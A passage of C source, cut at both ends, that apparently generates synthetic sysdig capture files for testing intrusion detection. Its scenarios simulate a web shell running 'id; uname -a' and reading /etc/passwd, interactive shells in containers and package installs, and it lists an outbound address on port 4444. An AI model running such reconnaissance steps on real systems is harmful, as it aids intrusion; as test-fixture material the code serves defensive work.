  f->sip = sip;
  f->sport = sport;
  f->dip = dip;
  f->dport = dport;
}

static void sc_sendrecv(gen *g, gproc *p, gfd *f, int send) {
  uint32_t size = 1 + rn(g, 4096);
  int64_t res = size;
  if (ev_e(g, p->tid, send ? 30 : 34)) {
    vg_capw_p_u64(g->w, (uint64_t)f->fd);
    vg_capw_p_u32(g->w, size);
    if (send)
      vg_capw_p_empty(g->w);
    end(g);
  }
  if (ev(g, p->tid, send ? 31 : 35)) {
    vg_capw_p_u64(g->w, (uint64_t)res);
    p_data(g, res);
    if (send) {
      vg_capw_p_u64(g->w, (uint64_t)f->fd);
      vg_capw_p_u32(g->w, size);
      vg_capw_p_empty(g->w);
    } else {
      vg_capw_p_empty(g->w);
      vg_capw_p_u64(g->w, (uint64_t)f->fd);
      vg_capw_p_u32(g->w, size);
    }
    end(g);
  }
}

/* dup2(OLDFD, NEWFD): NEWFD becomes a copy of OLDFD. Written as the
 * driver's legacy dup pair (124/125: enter with the old fd, exit with the
 * new one), the only dup events sysdig 0.29.3 knows (dup2 362/363 came
 * later); current libscap upgrades the pair to dup (366/367). The enter
 * event carries the old fd, so it is kept in exit-only mode too. */
static void sc_dup2(gen *g, gproc *p, gfd *old, int64_t newfd) {
  if (ev(g, p->tid, 124)) {
    vg_capw_p_u64(g->w, (uint64_t)old->fd);
    end(g);
  }
  if (ev(g, p->tid, 125)) {
    vg_capw_p_u64(g->w, (uint64_t)newfd);
    end(g);
  }
  gfd copy = *old;
  copy.fd = newfd;
  for (int i = 0; i < p->nfd; i++)
    if (p->fd[i].fd == newfd) {
      p->fd[i] = copy;
      return;
    }
  if (p->nfd < G_MAXFD)
    p->fd[p->nfd++] = copy;
}

static void sc_unlinkat(gen *g, gproc *p, const char *path) {
  if (ev_e(g, p->tid, 302))
    end(g);
  if (ev(g, p->tid, 303)) {
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u64(g->w, (uint64_t)(int64_t)AT_FDCWD_);
    vg_capw_p_str(g->w, path);
    vg_capw_p_u32(g->w, 0);
    end(g);
  }
}

/* --- processes ------------------------------------------------------- */

static size_t cgroups_of(gen *g, int ctr, char *buf, size_t n) {
  static const char *const SUBSYS[] = {"cpuset", "cpu", "memory", "pids"};
  size_t len = 0;
  for (size_t i = 0; i < sizeof SUBSYS / sizeof SUBSYS[0]; i++) {
    int k;
    if (ctr >= 0)
      k = snprintf(buf + len, n - len, "%s=/docker/%s", SUBSYS[i],
                   g->c[ctr].id);
    else
      k = snprintf(buf + len, n - len, "%s=/%s", SUBSYS[i],
                   i == 0 ? "" : "system.slice");
    if (k < 0 || (size_t)k + 1 >= n - len)
      break;
    len += (size_t)k + 1; /* keep the NUL as separator */
  }
  return len;
}

static gproc *slot(gen *g) {
  for (int i = 0; i < G_MAXP; i++)
    if (!g->p[i].live)
      return &g->p[i];
  return NULL;
}

static void sc_procexit(gen *g, gproc *p) {
  if (ev(g, p->tid, 186)) {
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u8(g->w, 0);
    vg_capw_p_u8(g->w, 0);
    vg_capw_p_u64(g->w, 0);
    end(g);
  }
  p->live = 0;
}

/* clone exit as seen by TID (RES = child tid in the parent, 0 in the
 * child); the process fields are those of the parent P. */
static void clone_x(gen *g, const gproc *p, int64_t tid, int64_t pid,
                    int64_t ptid, int64_t vtid, int64_t vpid, int64_t res) {
  char cg[512];
  size_t cgl = cgroups_of(g, p->ctr, cg, sizeof cg);
  if (!ev(g, tid, 223))
    return;
  vg_capw_p_u64(g->w, (uint64_t)res);
  vg_capw_p_str(g->w, p->exe);
  vg_capw_p_bytes(g->w, p->args, p->args_len);
  vg_capw_p_u64(g->w, (uint64_t)tid);
  vg_capw_p_u64(g->w, (uint64_t)pid);
  vg_capw_p_u64(g->w, (uint64_t)ptid);
  vg_capw_p_str(g->w, p->cwd);
  vg_capw_p_u64(g->w, 1048576);
  vg_capw_p_u64(g->w, 0);
  vg_capw_p_u64(g->w, 100 + rn(g, 200));
  vm_stats(g, (gproc *)p);
  vg_capw_p_str(g->w, p->comm);
  vg_capw_p_bytes(g->w, cg, cgl);
  vg_capw_p_u32(g->w, 8388608u); /* CLONE_CHILD_CLEARTID */
  vg_capw_p_u32(g->w, p->uid);
  vg_capw_p_u32(g->w, p->gid);
  vg_capw_p_u64(g->w, (uint64_t)vtid);
  vg_capw_p_u64(g->w, (uint64_t)vpid);
  vg_capw_p_u64(g->w, 0);
  end(g);
}

/* Where the usual Debian symlinks lead (trusted_exepath). */
static const char *resolve_path(const char *path) {
  static const char *const LINKS[][2] = {
      {"/bin/sh", "/usr/bin/dash"},
      {"/bin/bash", "/usr/bin/bash"},
      {"/usr/bin/nc", "/usr/bin/nc.traditional"},
      {"/usr/bin/vim", "/usr/bin/vim.basic"},
      {"/usr/bin/python3", "/usr/bin/python3.11"},
  };
  for (size_t i = 0; i < sizeof LINKS / sizeof LINKS[0]; i++)
    if (strcmp(path, LINKS[i][0]) == 0)
      return LINKS[i][1];
  return path;
}

/* fork + execve of PATH by PAR; ARGV holds the arguments after argv[0]
 * separated by '\n' (turned into NULs). CTR and TTY of the new program:
 * CTR -2 = the parent's container. The user never changes at execve (no
 * setuid programs): sysdig 0.29.3 does not read the uid of execve events,
 * so a change would make the two readers disagree. */
static gproc *spawn(gen *g, gproc *par, const char *exepath,
                    const char *argv0, const char *argv, int ctr,
                    uint32_t tty) {
  gproc *c = slot(g);
  if (!c) { /* table full: the oldest spawned process exits first */
    for (int i = 0; i < G_MAXP && !c; i++)
      if (g->p[i].spawned && g->p[i].live && &g->p[i] != par) {
        sc_procexit(g, &g->p[i]);
        c = &g->p[i];
      }
    if (!c)
      return NULL;
  }
  if (ctr == -2)
    ctr = par->ctr;
  memset(c, 0, sizeof *c);
  c->live = 1;
  c->spawned = 1;
  c->role = R_OTHER;
  c->tid = c->pid = g->next_tid++;
  c->ptid = par->pid;
  c->ctr = ctr;
  if (par->ctr >= 0 && par->ctr == ctr)
    c->vtid = c->vpid = g->c[ctr].next_vpid++;
  else
    c->vtid = c->vpid = c->tid;
  int64_t cvt = par->ctr >= 0 ? c->vtid : c->tid;
  /* fork: the child starts as a copy of its parent */
  cpy(c->comm, sizeof c->comm, par->comm);
  cpy(c->exe, sizeof c->exe, par->exe);
  cpy(c->exepath, sizeof c->exepath, par->exepath);
  cpy(c->cwd, sizeof c->cwd, par->cwd);
  memcpy(c->args, par->args, par->args_len);
  c->args_len = par->args_len;
  c->uid = par->uid;
  c->gid = par->gid;
  c->tty = par->tty;
  c->loginuid = par->loginuid;
  for (int i = 0; i < par->nfd && i < 3; i++)
    if (par->fd[i].fd <= 2)
      c->fd[c->nfd++] = par->fd[i];
  g->st.procs_spawned++;
  if (ev_e(g, par->tid, 222))
    end(g);
  clone_x(g, par, par->tid, par->pid, par->ptid, par->vtid, par->vpid,
          c->tid);
  clone_x(g, par, c->tid, c->pid, par->pid, cvt, cvt, 0);
  /* execve */
  c->ctr = ctr;
  c->tty = tty;
  const char *base = strrchr(exepath, '/');
  base = base ? base + 1 : exepath;
  cpy(c->comm, sizeof c->comm, base);
  cpy(c->exe, sizeof c->exe, argv0);
  cpy(c->exepath, sizeof c->exepath, resolve_path(exepath));
  c->args_len = 0;
  if (argv && *argv) {
    size_t n = strlen(argv);
    if (n >= sizeof c->args)
      n = sizeof c->args - 1;
    memcpy(c->args, argv, n);
    c->args[n] = 0;
    for (size_t i = 0; i < n; i++)
      if (c->args[i] == '\n')
        c->args[i] = 0;
    c->args_len = n + 1;
  }
  if (ev_e(g, c->tid, 292)) {
    vg_capw_p_str(g->w, exepath);
    end(g);
  }
  char cg[512];
  size_t cgl = cgroups_of(g, c->ctr, cg, sizeof cg);
  static const char ENV[] =
      "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\0"
      "HOME=/root\0LANG=C.UTF-8";
  int root = c->uid == 0;
  const char *trusted = resolve_path(exepath);
  if (ev(g, c->tid, 293)) {
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_str(g->w, c->exe);
    vg_capw_p_bytes(g->w, c->args, c->args_len);
    vg_capw_p_u64(g->w, (uint64_t)c->tid);
    vg_capw_p_u64(g->w, (uint64_t)c->pid);
    vg_capw_p_u64(g->w, (uint64_t)c->ptid);
    vg_capw_p_str(g->w, c->cwd);
    vg_capw_p_u64(g->w, 1048576);
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u64(g->w, 60 + rn(g, 100));
    vm_stats(g, c);
    vg_capw_p_str(g->w, c->comm);
    vg_capw_p_bytes(g->w, cg, cgl);
    vg_capw_p_bytes(g->w, ENV, sizeof ENV);
    vg_capw_p_u32(g->w, c->tty);
    vg_capw_p_u64(g->w, (uint64_t)c->pid);       /* vpgid */
    vg_capw_p_u32(g->w, c->loginuid);
    vg_capw_p_u32(g->w, 0);                      /* execve flags */
    vg_capw_p_u64(g->w, 0);
    vg_capw_p_u64(g->w, root ? CAPS_ROOT : 0);
    vg_capw_p_u64(g->w, root ? CAPS_ROOT : 0);
    vg_capw_p_u64(g->w, 1000 + (uint64_t)(strlen(trusted) * 7919));
    vg_capw_p_u64(g->w, 1700000000000000000ull);
    vg_capw_p_u64(g->w, 1700000000000000000ull);
    vg_capw_p_u32(g->w, c->uid);
    vg_capw_p_str(g->w, trusted);
    vg_capw_p_u64(g->w, (uint64_t)c->pid);       /* pgid */
    vg_capw_p_u32(g->w, c->gid);
    vg_capw_p_str(g->w, exepath);
    end(g);
  }
  /* the dynamic loader's usual start */
  sc_brk(g, c);
  gfd *f = sc_openat(g, c, "/etc/ld.so.cache", O_RD | O_CLOEXEC_, 0);
  if (f) {
    int64_t fd = f->fd;
    sc_fstat(g, c, fd);
    sc_mmap(g, c, fd, 24576);
    sc_close(g, c, fd);
  }
  f = sc_openat(g, c, "/lib/x86_64-linux-gnu/libc.so.6", O_RD | O_CLOEXEC_,
                0);
  if (f) {
    int64_t fd = f->fd;
    sc_rw(g, c, f, 0);
    sc_mmap(g, c, fd, 1970000);
    sc_close(g, c, fd);
  }
  sc_mprotect(g, c);
  return c;
}

/* open, read or write a little, close */
static void touch_file(gen *g, gproc *p, const char *path, int wr) {
  uint32_t fl = wr ? (O_WR | O_CREAT_ | O_TRUNC_ | O_CLOEXEC_)
                   : (O_RD | O_CLOEXEC_);
  gfd *f = sc_openat(g, p, path, fl, wr ? 0755 : 0);
  if (!f)
    return;
  int64_t fd = f->fd;
  int n = 1 + (int)rn(g, 3);
  for (int i = 0; i < n; i++)
    sc_rw(g, p, f, wr);
  sc_close(g, p, fd);
}

static void run_cmd(gen *g, gproc *par, const char *exepath,
                    const char *argv0, const char *argv,
                    const char *reads) {
  gproc *c = spawn(g, par, exepath, argv0, argv, -2, par->tty);
  if (!c)
    return;
  if (reads)
    touch_file(g, c, reads, 0);
  gfd *out = NULL;
  for (int i = 0; i < c->nfd; i++)
    if (c->fd[i].fd == 1)
      out = &c->fd[i];
  if (out)
    sc_rw(g, c, out, 1);
  sc_procexit(g, c);
}

static void outbound(gen *g, gproc *p, uint32_t dip, uint16_t dport) {
  gfd *s = sc_socket(g, p);
  if (!s)
    return;
  int64_t fd = s->fd;
  sc_connect(g, p, s, dip, dport);
  sc_sendrecv(g, p, s, 1);
  sc_sendrecv(g, p, s, 0);
  sc_close(g, p, fd);
}

/* --- the base system ------------------------------------------------- */

static gproc *find_role(gen *g, int role, int ctr) {
  int n = 0;
  gproc *hit = NULL;
  for (int i = 0; i < G_MAXP; i++)
    if (g->p[i].live && g->p[i].role == role &&
        (ctr == -3 || g->p[i].ctr == ctr) && rn(g, (uint32_t)++n) == 0)
      hit = &g->p[i];
  return hit;
}

typedef struct base_proc {
  int role, ctr;
  int64_t tid, pid, ptid, vtid;
  const char *comm, *exe, *exepath, *args, *cwd;
  uint32_t uid, tty, loginuid;
} base_proc;

static const base_proc BASE[] = {
    {R_INIT, -1, 1, 1, 0, 1, "systemd", "/sbin/init",
     "/usr/lib/systemd/systemd", "--system\n--deserialize=31", "/", 0, 0,
     0xFFFFFFFFu},
    {R_CRON, -1, 640, 640, 1, 640, "cron", "/usr/sbin/cron",
     "/usr/sbin/cron", "-f", "/var/spool/cron", 0, 0, 0xFFFFFFFFu},
    {R_RSYSLOG, -1, 655, 655, 1, 655, "rsyslogd", "/usr/sbin/rsyslogd",
     "/usr/sbin/rsyslogd", "-n\n-iNONE", "/", 0, 0, 0xFFFFFFFFu},
    {R_SSHD, -1, 812, 812, 1, 812, "sshd", "sshd: /usr/sbin/sshd",
     "/usr/sbin/sshd", "-D", "/", 0, 0, 0xFFFFFFFFu},
    {R_CONTAINERD, -1, 901, 901, 1, 901, "containerd", "/usr/bin/containerd",
     "/usr/bin/containerd", "", "/", 0, 0, 0xFFFFFFFFu},
    {R_DOCKERD, -1, 950, 950, 1, 950, "dockerd", "/usr/bin/dockerd",
     "/usr/bin/dockerd", "-H\nfd://\n--containerd=/run/containerd/"
     "containerd.sock", "/", 0, 0, 0xFFFFFFFFu},
    {R_PYTHON, -1, 1200, 1200, 1, 1200, "python3", "/usr/bin/python3",
     "/usr/bin/python3.11", "/opt/worker/worker.py\n--queue=default",
     "/opt/worker", 33, 0, 0xFFFFFFFFu},
    {R_SHIM, -1, 2101, 2101, 1, 2101, "containerd-shim",
     "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2",
     "-namespace\nmoby\n-address\n/run/containerd/containerd.sock", "/", 0,
     0, 0xFFFFFFFFu},
    {R_NGINX_MASTER, 0, 2120, 2120, 2101, 1, "nginx", "nginx",
     "/usr/sbin/nginx", "-g\ndaemon off;", "/", 0, 0, 0xFFFFFFFFu},
    {R_NGINX_WORKER, 0, 2150, 2150, 2120, 29, "nginx", "nginx",
     "/usr/sbin/nginx", "-g\ndaemon off;", "/", 33, 0, 0xFFFFFFFFu},
    {R_SHIM, -1, 2201, 2201, 1, 2201, "containerd-shim",
     "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2",
     "-namespace\nmoby\n-address\n/run/containerd/containerd.sock", "/", 0,
     0, 0xFFFFFFFFu},
    {R_POSTGRES, 1, 2220, 2220, 2201, 1, "postgres", "postgres",
     "/usr/lib/postgresql/16/bin/postgres", "", "/var/lib/postgresql", 999,
     0, 0xFFFFFFFFu},
    {R_SHIM, -1, 2301, 2301, 1, 2301, "containerd-shim",
     "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2",
     "-namespace\nmoby\n-address\n/run/containerd/containerd.sock", "/", 0,
     0, 0xFFFFFFFFu},
    {R_NODE, 2, 2320, 2320, 2301, 1, "node", "node", "/usr/local/bin/node",
     "server.js", "/app", 1000, 0, 0xFFFFFFFFu},
    {R_THREAD, 2, 2321, 2320, 2301, 7, "node", "node",
     "/usr/local/bin/node", "server.js", "/app", 1000, 0, 0xFFFFFFFFu},
    {R_SSH_SESSION, -1, 3040, 3040, 812, 3040, "sshd",
     "sshd: alice [priv]", "/usr/sbin/sshd", "", "/", 0, 0, 1000},
    {R_BASH, -1, 3050, 3050, 3040, 3050, "bash", "-bash", "/usr/bin/bash",
     "", "/home/alice", 1000, TTY_PTS0, 1000},
    /* alice's `sudo -i` root shell on a second terminal */
    {R_ROOTSH, -1, 3120, 3120, 3050, 3120, "bash", "-bash", "/usr/bin/bash",
     "", "/root", 0, TTY_PTS0 + 1, 1000},
};
#define N_BASE (sizeof BASE / sizeof BASE[0])

static void set_args(gproc *p, const char *a) {
  size_t n = strlen(a);
  if (n >= sizeof p->args)
    n = sizeof p->args - 1;
  memcpy(p->args, a, n);
  p->args[n] = 0;
  for (size_t i = 0; i < n; i++)
    if (p->args[i] == '\n')
      p->args[i] = 0;
  p->args_len = n ? n + 1 : 0;
}

static void base_fds(gen *g, gproc *p) {
  char std[24] = "/dev/null";
  if (p->tty)
    snprintf(std, sizeof std, "/dev/pts/%u", p->tty - TTY_PTS0);
  if (p->ctr >= 0) {
    for (int i = 0; i < 3; i++) {
      char nm[32];
      snprintf(nm, sizeof nm, "pipe:[%d]", 40000 + (int)p->tid * 3 + i);
      fd_add(p, GF_FIFO, nm);
    }
  } else {
    for (int i = 0; i < 3; i++)
      fd_add(p, GF_FILE, std);
  }
  gfd *f;
  switch (p->role) {
  case R_RSYSLOG:
    fd_add(p, GF_FILE, "/var/log/syslog");
    fd_add(p, GF_FILE, "/var/log/auth.log");
    fd_add(p, GF_FILE, "/var/log/kern.log");
    break;
  case R_SSHD:
    if ((f = fd_add(p, GF_SERV4, "")))
      f->sport = 22;
    break;
  case R_SSH_SESSION:
    if ((f = fd_add(p, GF_SOCK4, ""))) {
      f->sip = 0xC6336407u; /* 198.51.100.7 */
      f->sport = 50122;
      f->dip = HOST_IP;
      f->dport = 22;
    }
    fd_add(p, GF_FILE, "/dev/ptmx");
    break;
  case R_PYTHON:
    if ((f = fd_add(p, GF_SOCK4, ""))) {
      f->sip = HOST_IP;
      f->sport = 41822;
      f->dip = 0x0A000214u; /* 10.0.2.20:6379 */
      f->dport = 6379;
    }
    fd_add(p, GF_FILE, "/var/log/worker/worker.log");
    break;
  case R_NGINX_MASTER:
  case R_NGINX_WORKER:
    fd_add(p, GF_FILE, "/var/log/nginx/access.log");
    fd_add(p, GF_FILE, "/var/log/nginx/error.log");
    if ((f = fd_add(p, GF_SERV4, "")))
      f->sport = 80;
    if (p->role == R_NGINX_WORKER)
      for (int i = 0; i < 3; i++)
        if ((f = fd_add(p, GF_SOCK4, ""))) {
          f->sip = 0xCB007100u + 7u + (uint32_t)i; /* 203.0.113.x */
          f->sport = (uint16_t)(51234 + i);
          f->dip = g->c[0].ip;
          f->dport = 80;
        }
    break;
  case R_POSTGRES:
    if ((f = fd_add(p, GF_SERV4, "")))
      f->sport = 5432;
    fd_add(p, GF_FILE, "/var/lib/postgresql/data/base/16384/2619");
    fd_add(p, GF_FILE, "/var/lib/postgresql/data/pg_wal/"
                       "000000010000000000000001");
    if ((f = fd_add(p, GF_SOCK4, ""))) {
      f->sip = g->c[2].ip;
      f->sport = 40112;
      f->dip = g->c[1].ip;
      f->dport = 5432;
    }
    break;
  case R_NODE:
    if ((f = fd_add(p, GF_SERV4, "")))
      f->sport = 3000;
    if ((f = fd_add(p, GF_SOCK4, ""))) {
      f->sip = g->c[2].ip;
      f->sport = 40112;
      f->dip = g->c[1].ip;
      f->dport = 5432;
    }
    fd_add(p, GF_FILE, "/app/logs/app.log");
    break;
  default:
    break;
  }
}

static void to_scap_fd(const gfd *f, vg_scap_fd *o) {
  memset(o, 0, sizeof *o);
  o->fd = f->fd;
  o->ino = 1000 + (uint64_t)f->fd;
  o->type = f->type;
  o->l4proto = 2;
  be32(o->sip, f->type == GF_SERV4 ? 0 : f->sip);
  be32(o->dip, f->dip);
  o->sport = f->sport;
  o->dport = f->dport;
  o->name = f->name;
}

static vigil_status write_metadata(gen *g, uint64_t boot) {
  vg_capw *w = g->w;
  vigil_status st = vg_capw_machine(w, 4, 16ull << 30, 4194304,
                                    "vigil-synth", boot);
  vg_scap_iface ifs[2];
  memset(ifs, 0, sizeof ifs);
  be32(ifs[0].addr, 0x7F000001u);
  be32(ifs[0].netmask, 0xFF000000u);
  ifs[0].name = "lo";
  be32(ifs[1].addr, HOST_IP);
  be32(ifs[1].netmask, 0xFFFFFF00u);
  ifs[1].name = "eth0";
  if (st == VIGIL_OK)
    st = vg_capw_ifaces(w, ifs, 2);
  static const vg_scap_user USERS[] = {
      {0, 0, 0, "root", "/root", "/bin/bash"},
      {0, 1, 1, "daemon", "/usr/sbin", "/usr/sbin/nologin"},
      {0, 33, 33, "www-data", "/var/www", "/usr/sbin/nologin"},
      {0, 999, 999, "postgres", "/var/lib/postgresql", "/bin/bash"},
      {0, 1000, 1000, "alice", "/home/alice", "/bin/bash"},
      {0, 65534, 65534, "nobody", "/nonexistent", "/usr/sbin/nologin"},
      {1, 0, 0, "root", NULL, NULL},
      {1, 0, 33, "www-data", NULL, NULL},
      {1, 0, 999, "postgres", NULL, NULL},
      {1, 0, 1000, "alice", NULL, NULL},
      {1, 0, 65534, "nogroup", NULL, NULL},
  };
  if (st == VIGIL_OK)
    st = vg_capw_users(w, USERS, sizeof USERS / sizeof USERS[0]);
  /* process list */
  vg_scap_proc procs[N_BASE];
  char cgs[N_BASE][512];
  static const char ENV[] = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:"
                            "/usr/bin:/sbin:/bin\0LANG=C.UTF-8";
  for (size_t i = 0; i < N_BASE; i++) {
    const gproc *p = &g->p[i];
    vg_scap_proc *o = &procs[i];
    memset(o, 0, sizeof *o);
    o->tid = p->tid;
    o->pid = p->pid;
    o->ptid = p->ptid;
    o->sid = p->pid;
    o->vpgid = p->vpid;
    o->comm = p->comm;
    o->exe = p->exe;
    o->exepath = p->exepath;
    o->args = (const uint8_t *)p->args;
    o->args_len = (uint32_t)p->args_len;
    o->cwd = p->cwd;
    o->fdlimit = 1048576;
    o->uid = p->uid;
    o->gid = p->gid;
    o->vmsize_kb = 20000 + (uint32_t)i * 1000;
    o->vmrss_kb = 5000 + (uint32_t)i * 300;
    o->pfminor = 1000 + (uint64_t)i;
    o->env = (const uint8_t *)ENV;
    o->env_len = sizeof ENV;
    o->vtid = p->vtid;
    o->vpid = p->vpid;
    o->cgroups_len = (uint32_t)cgroups_of(g, p->ctr, cgs[i], sizeof cgs[i]);
    o->cgroups = (const uint8_t *)cgs[i];
    o->root = "/";
    o->loginuid = p->loginuid;
    o->cap_prm = o->cap_eff = p->uid == 0 ? CAPS_ROOT : 0;
    o->flags = p->tid != p->pid ? 0x2000u : 0; /* PPM_CL_CLONE_THREAD */
  }
  if (st == VIGIL_OK)
    st = vg_capw_procs(w, procs, N_BASE);
  for (size_t i = 0; i < N_BASE && st == VIGIL_OK; i++) {
    const gproc *p = &g->p[i];
    if (p->tid != p->pid)
      continue; /* threads share their leader's table */
    vg_scap_fd fds[G_MAXFD];
    for (int k = 0; k < p->nfd; k++)
      to_scap_fd(&p->fd[k], &fds[k]);
    st = vg_capw_fds(w, p->tid, fds, (size_t)p->nfd);
  }
  return st;
}

static void setup(gen *g) {
  static const char *const NAMES[G_NCTR] = {"web-frontend", "db-primary",
                                            "api-server"};
  static const char *const IMAGES[G_NCTR][3] = {
      {"docker.io/library/nginx:1.25", "docker.io/library/nginx", "1.25"},
      {"docker.io/library/postgres:16", "docker.io/library/postgres", "16"},
      {"ghcr.io/example/api:2.3.1", "ghcr.io/example/api", "2.3.1"}};
  for (int i = 0; i < G_NCTR; i++) {
    gctr *c = &g->c[i];
    for (int k = 0; k < 64; k++)
      c->id[k] = "0123456789abcdef"[rn(g, 16)];
    c->id[64] = 0;
    c->name = NAMES[i];
    c->image = IMAGES[i][0];
    c->repo = IMAGES[i][1];
    c->tag = IMAGES[i][2];
    c->ip = 0xAC110002u + (uint32_t)i; /* 172.17.0.2.. */
    c->next_vpid = 40;
  }
  int shim = 0;
  for (size_t i = 0; i < N_BASE; i++) {
    const base_proc *b = &BASE[i];
    gproc *p = &g->p[i];
    memset(p, 0, sizeof *p);
    p->live = 1;
    p->role = b->role;
    p->ctr = b->ctr;
    p->tid = b->tid;
    p->pid = b->pid;
    p->ptid = b->ptid;
    p->vtid = b->vtid;
    p->vpid = b->ctr >= 0 ? (b->tid == b->pid ? b->vtid : 1) : b->pid;
    cpy(p->comm, sizeof p->comm, b->comm);
    cpy(p->exe, sizeof p->exe, b->exe);
    cpy(p->exepath, sizeof p->exepath, b->exepath);
    cpy(p->cwd, sizeof p->cwd, b->cwd);
    set_args(p, b->args);
    p->uid = p->gid = b->uid;
    p->tty = b->tty;
    p->loginuid = b->loginuid;
    if (b->role == R_SHIM && shim < G_NCTR)
      g->c[shim++].shim = (int)i;
    if (p->tid == p->pid)
      base_fds(g, p);
  }
  g->next_tid = 10000;
}

static void container_events(gen *g) {
  for (int i = 0; i < G_NCTR; i++) {
    const gctr *c = &g->c[i];
    char json[1024];
    snprintf(json, sizeof json,
             "{\"container\":{\"id\":\"%.12s\",\"type\":0,\"name\":\"%s\","
             "\"image\":\"%s\",\"imagedigest\":\"\",\"imageid\":\"%.64s\","
             "\"imagerepo\":\"%s\",\"imagetag\":\"%s\",\"mounts\":[],"
             "\"privileged\":false,\"is_pod_sandbox\":false,"
             "\"lookup_state\":1,\"created_time\":1700000000,"
             "\"cpu_period\":100000,\"cpu_quota\":0,\"cpu_shares\":1024,"
             "\"cpuset_cpu_count\":0,\"memory_limit\":0,\"swap_limit\":0,"
             "\"port_mappings\":[],\"labels\":{},\"env\":[],"
             "\"ip\":\"172.17.0.%d\"}}",
             c->id, c->name, c->image, g->c[(i + 1) % G_NCTR].id, c->repo,
             c->tag, 2 + i);
    if (ev(g, -1, 272)) {
      vg_capw_p_str(g->w, json);
      end(g);
    }
  }
}

/* --- scenarios ------------------------------------------------------- */

static const char *const HOST_FILES[] = {
    "/etc/ld.so.cache", "/etc/hosts", "/etc/resolv.conf", "/proc/stat",
    "/proc/meminfo", "/etc/localtime", "/usr/lib/locale/locale-archive",
    "/etc/nsswitch.conf"};
static const char *const ROLE_FILES[][3] = {
    [R_NGINX_WORKER] = {"/usr/share/nginx/html/index.html",
                        "/usr/share/nginx/html/app.js",
                        "/etc/nginx/mime.types"},
    [R_POSTGRES] = {"/var/lib/postgresql/data/base/16384/1259",
                    "/var/lib/postgresql/data/global/pg_control",
                    "/var/lib/postgresql/data/pg_stat_tmp/global.stat"},
    [R_NODE] = {"/app/node_modules/express/lib/router/index.js",
                "/app/config/production.json", "/app/views/index.html"},
    [R_PYTHON] = {"/opt/worker/tasks.py",
                  "/usr/lib/python3.11/json/__init__.py",
                  "/opt/worker/config.yaml"},
};

static const char *benign_file(gen *g, const gproc *p) {
  if (p->role < (int)(sizeof ROLE_FILES / sizeof ROLE_FILES[0]) &&
      ROLE_FILES[p->role][0] && rn(g, 4))
    return ROLE_FILES[p->role][rn(g, 3)];
  return HOST_FILES[rn(g, sizeof HOST_FILES / sizeof HOST_FILES[0])];
}

static void background(gen *g, gproc *p) {
  if (p->role == R_THREAD) { /* threads: no fd of their own here */
    uint32_t r = rn(g, 10);
    if (r < 6)
      sc_futex(g, p);
    else if (r < 9)
      sc_epoll_wait(g, p);
    else
      sc_nanosleep(g, p);
    return;
  }
  uint32_t r = rn(g, 100);
  gfd *f;
  if (r < 22 && (f = fd_pick(g, p, 1)))
    sc_rw(g, p, f, 0);
  else if (r < 36 && (f = fd_pick(g, p, 1)))
    sc_rw(g, p, f, 1);
  else if (r < 42)
    touch_file(g, p, benign_file(g, p), 0);
  else if (r < 47 && (f = fd_pick(g, p, 0)))
    sc_fstat(g, p, f->fd);
  else if (r < 53)
    sc_mmap(g, p, -1, 4096ull << rn(g, 8));
  else if (r < 57)
    sc_munmap(g, p);
  else if (r < 60)
    sc_mprotect(g, p);
  else if (r < 75)
    sc_futex(g, p);
  else if (r < 87)
    sc_epoll_wait(g, p);
  else if (r < 91)
    sc_nanosleep(g, p);
  else if (r < 94)
    sc_brk(g, p);
  else if (r < 97 && (f = fd_pick(g, p, 0)))
    sc_fcntl(g, p, f->fd);
  else if ((f = fd_pick(g, p, 1)) && f->type == GF_SOCK4)
    sc_sendrecv(g, p, f, rn(g, 2));
  else
    sc_futex(g, p);
}

static gproc *container_shell(gen *g, int ctr, uint32_t tty,
                              const char *argv) {
  gproc *shim = &g->p[g->c[ctr].shim];
  return spawn(g, shim, tty ? "/bin/bash" : "/bin/sh", tty ? "bash" : "sh",
               argv, ctr, tty);
}

static const uint32_t PUBLIC_IPS[] = {
    0x5DB8D822u, /* 93.184.216.34 */
    0xB9DC652Du, /* 185.220.101.45 */
    0x2D211CA0u, /* 45.33.28.160 */
    0x8EFA4B6Eu, /* 142.250.75.110 */
    0x97650284u, /* 151.101.2.132 */
};
static const uint16_t PUBLIC_PORTS[] = {443, 4444, 80, 443, 80};

static void scenario(gen *g, int k) {
  g->st.scenarios[k]++;
  gproc *p, *sh;
  switch (k) {
  case VG_CAPGEN_WEB_SHELL:
    p = rn(g, 2) ? find_role(g, R_NGINX_WORKER, -3)
                 : find_role(g, R_NODE, -3);
    if (!p)
      break;
    sh = spawn(g, p, "/bin/sh", "sh", "-c\nid; uname -a", -2, 0);
    if (!sh)
      break;
    run_cmd(g, sh, "/usr/bin/id", "id", "", "/etc/passwd");
    run_cmd(g, sh, "/usr/bin/uname", "uname", "-a", NULL);
    sc_procexit(g, sh);
    break;
  case VG_CAPGEN_TERM_SHELL:
    sh = container_shell(g, (int)rn(g, G_NCTR), TTY_PTS0 + rn(g, 4), "");
    if (!sh)
      break;
    run_cmd(g, sh, "/usr/bin/ls", "ls", "-la\n/", NULL);
    run_cmd(g, sh, "/usr/bin/cat", "cat", "/etc/os-release",
            "/etc/os-release");
    sh->ttl = 20 + rn(g, 200); /* stays around for a while */
    break;
  case VG_CAPGEN_PKG_MGR: {
    sh = container_shell(g, (int)rn(g, G_NCTR), 0,
                         "-c\napt-get update && apt-get install -y curl");
    if (!sh)
      break;
    gproc *apt = spawn(g, sh, "/usr/bin/apt-get", "apt-get",
                       "install\n-y\ncurl", -2, 0);
    if (apt) {
      touch_file(g, apt, "/etc/apt/sources.list", 0);
      touch_file(g, apt, "/var/lib/dpkg/status", 0);
      outbound(g, apt, PUBLIC_IPS[4], 80);
      gproc *dpkg = spawn(g, apt, "/usr/bin/dpkg", "/usr/bin/dpkg",
                          "--status-fd\n23\n--unpack\n/var/cache/apt/archives"
                          "/curl_8.5.0-2_amd64.deb", -2, 0);
      if (dpkg) {
        touch_file(g, dpkg, "/var/lib/dpkg/status-new", 1);
